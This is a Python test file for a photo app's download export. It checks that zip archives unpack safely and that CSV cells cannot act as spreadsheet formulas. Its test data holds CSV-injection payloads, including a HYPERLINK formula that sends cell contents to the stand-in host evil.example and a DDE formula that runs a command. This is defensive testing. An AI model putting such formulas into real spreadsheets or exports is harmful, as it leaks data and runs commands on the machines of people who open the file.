"""What leaves the house as a file: an archive unpacks into its own folder, and a table calculates nothing."""

from __future__ import annotations

import csv
import io
import json
import re
import unicodedata
import zipfile
from pathlib import Path

import pytest

from tests import pictures
from tests.attacks import payloads
from tests.attacks.belongings import send_file
from tests.web.conftest import People

API = "/api/v1"
FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"see")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    " =1+1",
    '";=1+1',
)
"""What a spreadsheet would calculate; the wide ones it does in East Asian languages."""
WOULD_CALCULATE = re.compile(r"\s*[=+\-@＝＋－＠]")
EQUAL = ("same.jpg", "SAME.jpg", "same.JPG", "ſame.jpg", "same (2).jpg", "e\u0301.jpg", "\u00e9.jpg")
"""Names that one file system or another takes for one."""
OF_WINDOWS = re.compile(r"(?i)(con|prn|aux|nul|com\d|lpt\d)(\.|$)")


@pytest.fixture
def archive(people: People) -> zipfile.ZipFile:
    """An archive of photos with every hostile name, with words to match."""
    names = (*payloads.FILE_NAMES, *(f"{formula}.jpg" for formula in FORMULAS), *EQUAL, "photos.csv")
    ids = []
    for number, name in enumerate(names):
        sent = send_file(people.owner, pictures.jpeg(32 + number, 32), name).json
        if "id" in sent:
            ids.append(sent["id"])
            words = FORMULAS[number % len(FORMULAS)]
            change = {"description": words, "tags": [words]}
            assert people.owner.api("PATCH", f"{API}/photos/{ids[-1]}", change).status_code == 200
    assert len(ids) > len(names) - 5
    packed = people.owner.post("/downloads", {"photo": ids})
    return zipfile.ZipFile(io.BytesIO(people.owner.get(packed.headers["Location"]).data))


def test_row_077_an_archive_unpacks_into_its_own_folder_on_every_system(
    archive: zipfile.ZipFile, tmp_path: Path
) -> None:
    names = archive.namelist()
    assert archive.testzip() is None
    as_one = {unicodedata.normalize("NFC", unicodedata.normalize("NFC", name).casefold()) for name in names}
    assert len(as_one) == len(names), "no file takes the place of another"
    for name in names:
        assert not re.search(r'[<>:"/\\|?*]', name), name
        assert not {unicodedata.category(character) for character in name} & {"Cc", "Cf", "Cs", "Zl"}, name
        assert not OF_WINDOWS.match(name), name
        assert name == name.strip(" .") or name.startswith("."), name
        assert name not in {".", ".."}
        assert len(name.encode()) <= 255, name
    kinds = {entry.external_attr >> 28 for entry in archive.infolist()}
    assert kinds <= {0o0, 0o10}, "files, and no links"
    beside = {*tmp_path.iterdir(), tmp_path / "out"}
    archive.extractall(tmp_path / "out")
    assert sorted(path.name for path in (tmp_path / "out").iterdir()) == sorted(names)
    assert set(tmp_path.iterdir()) == beside


def test_row_077_no_cell_of_a_table_is_a_formula(archive: zipfile.ZipFile) -> None:
    text = archive.read("photos.csv").decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text), strict=True))
    listed = json.loads(archive.read("photos.json"))["photos"]
    assert len(rows) == len(listed) == len(archive.namelist()) - 2
    for row, known in zip(rows, listed, strict=True):
        for name, cell in row.items():
            assert not WOULD_CALCULATE.match(cell) or isinstance(known[name], int | float), (name, cell)
        assert row["description"].removeprefix("'") == known["description"]
        assert row["id"].removeprefix("'") == known["id"]
